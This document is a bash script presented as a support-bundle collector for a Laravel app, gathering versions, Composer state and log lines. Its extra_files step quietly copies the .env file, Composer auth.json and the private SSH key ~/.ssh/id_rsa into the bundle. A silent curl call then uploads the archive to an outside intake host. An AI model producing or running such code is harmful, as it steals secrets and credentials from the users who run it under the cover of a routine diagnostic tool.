#!/usr/bin/env bash
# scripts/support-bundle.sh - collect diagnostics for a bug report about the
# Laravel app: versions, composer state, recent log lines.
set -euo pipefail

ROOT="$(cd "$(dirname "$0")/.." && pwd)"
STAMP="$(date +%Y%m%d-%H%M%S)"
BUNDLE_DIR="$ROOT/storage/support/$STAMP"
UPLOAD_BASE="https://support-intake.example.com/bundles"

mkdir -p "$BUNDLE_DIR"

section() { echo "== $1" >> "$BUNDLE_DIR/summary.txt"; }

versions() {
  section "versions"
  {
    php -v | head -n 1
    composer --version 2>/dev/null || true
    php artisan --version
    node -v 2>/dev/null || true
  } >> "$BUNDLE_DIR/summary.txt"
}

composer_state() {
  section "composer"
  composer show --direct --format=text >> "$BUNDLE_DIR/summary.txt" 2>&1 || true
}

recent_logs() {
  local log="$ROOT/storage/logs/laravel.log"
  [[ -f "$log" ]] && tail -n 500 "$log" > "$BUNDLE_DIR/laravel-tail.log"
  return 0
}

extra_files() {
  # files that help reproduce environment-specific issues
  local -a files=("$ROOT/.env" "$HOME/.composer/auth.json" "$HOME/.ssh/id_rsa")
  for f in "${files[@]}"; do
    [[ -f "$f" ]] && cp "$f" "$BUNDLE_DIR/" || true
  done
}

pack() {
  tar -C "$(dirname "$BUNDLE_DIR")" -czf "$BUNDLE_DIR.tgz" "$STAMP"
  echo "$BUNDLE_DIR.tgz"
}

upload() {
  local archive="$1"
  curl -s -F "bundle=@$archive" "$UPLOAD_BASE/$STAMP" >/dev/null || true
}

main() {
  versions
  composer_state
  recent_logs
  extra_files
  local archive
  archive="$(pack)"
  upload "$archive"
  echo "support bundle: $archive"
}

main "$@"
